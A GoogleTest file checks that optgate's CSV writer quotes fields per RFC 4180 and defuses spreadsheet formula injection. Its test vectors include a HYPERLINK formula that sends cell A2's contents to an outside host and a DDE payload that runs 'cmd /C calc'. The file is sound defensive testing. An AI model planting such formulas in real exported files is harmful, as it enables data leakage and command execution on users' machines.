// Every CSV optgate writes goes through append_csv_field: RFC 4180 quoting, and no field a
// spreadsheet would run as a formula (a contained opt-out's raw text lands in the audit CSV).
#include "core/csv_field.hpp"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace optgate {
namespace {

std::string as_needed(std::string_view field) {
    std::string out;
    append_csv_field(out, field);
    return out;
}

std::string always(std::string_view field) {
    std::string out;
    append_csv_field(out, field, csv_quoting::always);
    return out;
}

struct written {
    std::string field;
    std::string as_needed;  // as optgatectl writes it
    std::string always;     // as the audit export writes it
};

TEST(CsvField, WhatASpreadsheetWouldRunIsWrittenAsText) {
    const std::vector<written> dangerous{
        {"=1+1", "'=1+1", "\"'=1+1\""},
        {"+1+HYPERLINK(\"https://x/?\"&A2,\"stop\")",
         "\"'+1+HYPERLINK(\"\"https://x/?\"\"&A2,\"\"stop\"\")\"",
         "\"'+1+HYPERLINK(\"\"https://x/?\"\"&A2,\"\"stop\"\")\""},
        {"-2+3", "'-2+3", "\"'-2+3\""},
        {"@SUM(A1:A9)", "'@SUM(A1:A9)", "\"'@SUM(A1:A9)\""},
        {"\t=1", "'\t=1", "\"'\t=1\""},
        {"\r=1", "\"'\r=1\"", "\"'\r=1\""},
        {"\n=1", "\"'\n=1\"", "\"'\n=1\""},
        // Spreadsheets trim leading spaces before they look for a formula.
        {"  =cmd|' /C calc'!A0", "'  =cmd|' /C calc'!A0", "\"'  =cmd|' /C calc'!A0\""},
        {" @x", "' @x", "\"' @x\""},
        {"=", "'=", "\"'=\""},
        {"-", "'-", "\"'-\""},
        {"+", "'+", "\"'+\""},
        {"=x ", "\"'=x \"", "\"'=x \""},
        // Not exactly an E.164 number: too long, spaced, signed twice, trailing text or space.
        {"+1234567890123456", "'+1234567890123456", "\"'+1234567890123456\""},
        {"+1 651 555 0100", "'+1 651 555 0100", "\"'+1 651 555 0100\""},
        {"+16515550100+1", "'+16515550100+1", "\"'+16515550100+1\""},
        {"++16515550100", "'++16515550100", "\"'++16515550100\""},
        {"+16515550100 ", "\"'+16515550100 \"", "\"'+16515550100 \""},
        {" +16515550100", "' +16515550100", "\"' +16515550100\""},
        {"-16515550100", "'-16515550100", "\"'-16515550100\""},
    };
    for (const auto& d : dangerous) {
        EXPECT_TRUE(csv_field_runs_as_formula(d.field)) << d.field;
        EXPECT_EQ(as_needed(d.field), d.as_needed) << d.field;
        EXPECT_EQ(always(d.field), d.always) << d.field;
    }
}

TEST(CsvField, HarmlessFieldsAreWrittenAsTheyAre) {
    const std::vector<written> harmless{
        {"+16515550100", "+16515550100", "\"+16515550100\""},  // E.164: a number, kept
        {"+1", "+1", "\"+1\""},
        {"+123456789012345", "+123456789012345", "\"+123456789012345\""},  // 15 digits
        {"", "", "\"\""},
        {"STOP", "STOP", "\"STOP\""},
        {"please stop = now", "please stop = now", "\"please stop = now\""},
        {"jane@example.org", "jane@example.org", "\"jane@example.org\""},
        {"2026-01-05T10:00:00.000Z", "2026-01-05T10:00:00.000Z", "\"2026-01-05T10:00:00.000Z\""},
        {"6515550100", "6515550100", "\"6515550100\""},
        {"   ", "\"   \"", "\"   \""},
        {"a,b", "\"a,b\"", "\"a,b\""},
        {"say \"hi\"", "\"say \"\"hi\"\"\"", "\"say \"\"hi\"\"\""},
        {"two\nlines", "\"two\nlines\"", "\"two\nlines\""},
        {" padded", "\" padded\"", "\" padded\""},
        {"padded ", "\"padded \"", "\"padded \""},
    };
    for (const auto& h : harmless) {
        EXPECT_FALSE(csv_field_runs_as_formula(h.field)) << h.field;
        EXPECT_EQ(as_needed(h.field), h.as_needed) << h.field;
        EXPECT_EQ(always(h.field), h.always) << h.field;
    }
}

TEST(CsvField, FieldsFollowEachOther) {
    std::string row;
    append_csv_field(row, "=1");
    row.push_back(',');
    append_csv_field(row, "+16515550100");
    EXPECT_EQ(row, "'=1,+16515550100");
}

}  // namespace
}  // namespace optgate
